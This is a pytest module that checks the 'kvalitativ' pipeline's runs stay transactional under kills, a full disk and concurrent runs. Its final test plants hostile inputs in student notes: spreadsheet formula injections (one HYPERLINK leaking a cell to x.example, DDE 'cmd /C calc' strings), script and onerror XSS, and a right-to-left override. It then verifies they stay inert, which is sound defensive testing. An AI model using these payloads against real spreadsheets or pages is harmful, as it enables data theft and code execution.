"""`kvalitativ run` as one transaction, tried as a scheduler, a full disk and a double-click would.

Each case starts from a complete run A in ``out/`` and then disturbs a run B (another config,
so another run id) into the same folder. Afterwards every Parquet table, CSV, DuckDB table and
``run.json`` must name one run id, and a rerun must equal an uninterrupted run.
"""

from __future__ import annotations

import errno
import os
import random
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from kvalitativ.config import load_config
from kvalitativ.errors import OutputError
from kvalitativ.io.store import run_ids_in_folder
from tests.test_pipeline import parquet_tables, small_sample

pytestmark = pytest.mark.slow

ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "KVALITATIV_PSEUDONYM_KEY": "ab" * 32}


def write_config(folder: Path, notes: Path, indicators: Path, name: str, n_boot: int) -> Path:
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump({
        "out": str(folder / "out"), "ingest": {"notes": str(notes), "indicators": str(indicators)},
        "embed": {"name": "tfidf", "cache_dir": str(folder / "cache")}, "link": {"n_boot": n_boot}}))
    return path


def kvalitativ(*args: str) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "kvalitativ.cli", "--quiet", *args], env=ENV,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def run_ids(out: Path) -> set[str]:
    return run_ids_in_folder(out)


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    from tests.conftest import SAMPLE

    folder = tmp_path_factory.mktemp("transaction")
    notes, indicators = small_sample(SAMPLE, folder, n_persons=80)
    a = write_config(folder, notes, indicators, "a", n_boot=20)
    b = write_config(folder, notes, indicators, "b", n_boot=30)
    reference = folder / "reference_b"
    t0 = time.monotonic()
    proc = kvalitativ("run", "--config", str(b), "--out", str(reference))
    assert proc.wait(timeout=900) == 0, proc.stderr.read()
    return {"folder": folder, "a": a, "b": b, "reference": reference, "seconds": time.monotonic() - t0}


def fresh_run_a(setup) -> Path:
    out = setup["folder"] / "out"
    proc = kvalitativ("run", "--config", str(setup["a"]), "--out", str(out))
    assert proc.wait(timeout=900) == 0, proc.stderr.read()
    return out


def test_a_killed_run_never_leaves_two_runs_and_a_rerun_equals_an_uninterrupted_one(setup):
    out = fresh_run_a(setup)
    run_a = run_ids(out)
    assert len(run_a) == 1
    rng = random.Random(21)
    for fraction in sorted(rng.uniform(0.05, 0.95) for _ in range(4)):
        proc = kvalitativ("run", "--config", str(setup["b"]), "--out", str(out))
        time.sleep(fraction * setup["seconds"])
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        ids = run_ids(out)
        assert len(ids) == 1, f"killed at {fraction:.2f} of a run: the folder names {ids}"
    proc = kvalitativ("run", "--config", str(setup["b"]), "--out", str(out))
    assert proc.wait(timeout=900) == 0, proc.stderr.read()
    done, ref = parquet_tables(out), parquet_tables(setup["reference"])
    assert set(done) == set(ref)
    for name in ref:
        pd.testing.assert_frame_equal(done[name], ref[name], obj=name)
    assert not list(setup["folder"].glob("out.staging-*"))


KILL_IN_PUBLISH = textwrap.dedent("""
    import os, signal, sys
    from pathlib import Path
    import kvalitativ.io.publish as publish
    rename = os.rename
    def killing_rename(a, b):
        rename(a, b)
        if Path(b).name.endswith(sys.argv[3]):
            os.kill(os.getpid(), signal.SIGKILL)  # right after the first step of the switch
    publish.os.rename = killing_rename
    from kvalitativ.config import load_config
    from kvalitativ.pipeline import run
    config = load_config(sys.argv[1])
    config.out = sys.argv[2]
    run(config, progress=False)
""")


def test_a_run_killed_inside_the_switch_leaves_one_whole_run(setup):
    out = fresh_run_a(setup)
    # the exchange: killed after the swap, before the old folder is renamed to .previous
    proc = subprocess.run([sys.executable, "-c", KILL_IN_PUBLISH, str(setup["b"]), str(out), ".previous"],
                          env=ENV, capture_output=True, text=True, timeout=900)
    assert proc.returncode == -signal.SIGKILL
    assert len(run_ids(out)) == 1
    # and the next run cleans up what the killed one left
    proc = kvalitativ("run", "--config", str(setup["a"]), "--out", str(out))
    assert proc.wait(timeout=900) == 0, proc.stderr.read()
    assert not list(setup["folder"].glob("out.staging-*"))


def test_disk_full_half_way_ends_in_one_line_with_the_published_run_untouched(setup, monkeypatch):
    from kvalitativ.io import store
    from kvalitativ.pipeline import run

    out = fresh_run_a(setup)
    before = run_ids(out)
    calls = {"n": 0}
    real = store.write_tables

    def filling_disk(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 3:  # half-way: after ingest and code, while linking
            raise OSError(errno.ENOSPC, "No space left on device", str(Path(args[0]) / "kvalitativ.duckdb"))
        return real(*args, **kwargs)

    monkeypatch.setattr(store, "write_tables", filling_disk)
    for module in ("kvalitativ.pipeline", "kvalitativ.link.stage", "kvalitativ.evidence.stage"):
        if hasattr(sys.modules.get(module), "write_tables"):
            monkeypatch.setattr(sys.modules[module], "write_tables", filling_disk)
    config = load_config(setup["b"])
    config.out = str(out)
    with pytest.raises(OutputError, match="no space left") as err:
        run(config, progress=False)
    assert "\n" not in str(err.value)
    assert run_ids(out) == before
    assert not list(setup["folder"].glob("out.staging-*"))


def test_two_runs_at_once_one_stops_with_one_line(setup):
    out = fresh_run_a(setup)
    first = kvalitativ("run", "--config", str(setup["b"]), "--out", str(out))
    time.sleep(min(3.0, setup["seconds"] / 4))
    second = kvalitativ("run", "--config", str(setup["a"]), "--out", str(out))
    assert second.wait(timeout=900) == 2
    err = second.stderr.read().strip()
    assert len(err.splitlines()) == 1 and f"pid {first.pid}" in err and "--wait" in err
    assert first.wait(timeout=900) == 0
    assert len(run_ids(out)) == 1


HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           '<script>alert("x")</script> Eleven har haft meget fravær.', "<img src=x onerror=alert(1)> Hun trives i klassen.",
           "-2+3 Han har svært ved matematik.", "\u202egnidnatsrof Eleven er motiveret."]
HOSTILE_UNIT = "<b>Skole</b><script>alert(2)</script>"


def test_hostile_note_text_and_unit_names_stay_inert_in_the_report_and_every_csv(setup):
    """What already held must keep holding through the transaction: escaped in the report,
    neutralised in every CSV (a cell Excel would evaluate starts with an apostrophe)."""
    folder = setup["folder"] / "hostile"
    folder.mkdir()
    notes = pd.read_csv(setup["folder"] / "notes.csv", sep=";", dtype=str, keep_default_na=False)
    text_col = [c for c in notes.columns if notes[c].str.len().mean() > 40][0]
    unit_col = [c for c in notes.columns if c.lower() in ("skole", "unit_id", "enhed")][0]
    for i, text in enumerate(HOSTILE):
        notes.loc[notes.index[i * 3], text_col] = text
    notes.loc[notes.index[: len(notes) // 3], unit_col] = HOSTILE_UNIT
    notes.to_csv(folder / "notes.csv", sep=";", index=False)
    config = write_config(folder, folder / "notes.csv", setup["folder"] / "indicators.csv", "hostile", n_boot=20)
    proc = kvalitativ("run", "--config", str(config), "--out", str(folder / "out"))
    assert proc.wait(timeout=900) == 0, proc.stderr.read()
    out = folder / "out"
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "onerror=alert" not in html.replace("&lt;img src=x onerror=alert", "")
    assert "<b>Skole</b>" not in html and "&lt;b&gt;Skole&lt;/b&gt;" in html
    seen_unit = False
    for sub, sep in (("csv", ","), ("csv_da", ";")):
        for p in (out / sub).glob("*.csv"):
            frame = pd.read_csv(p, sep=sep, dtype=str, keep_default_na=False, encoding="utf-8-sig")
            for col in frame.columns:
                cells = frame[col]
                number = pd.to_numeric(cells.str.replace(",", ".", regex=False), errors="coerce").notna()
                formula = cells.str.match(r"^[=+\-@\t\r]") & ~number  # a negative number is not a formula
                assert not formula.any(), f"{sub}/{p.name} column {col}: {cells[formula].iloc[0]!r}"
                seen_unit |= cells.str.contains("<b>Skole</b>", regex=False).any()
    assert seen_unit  # the hostile unit did reach the tables, as text
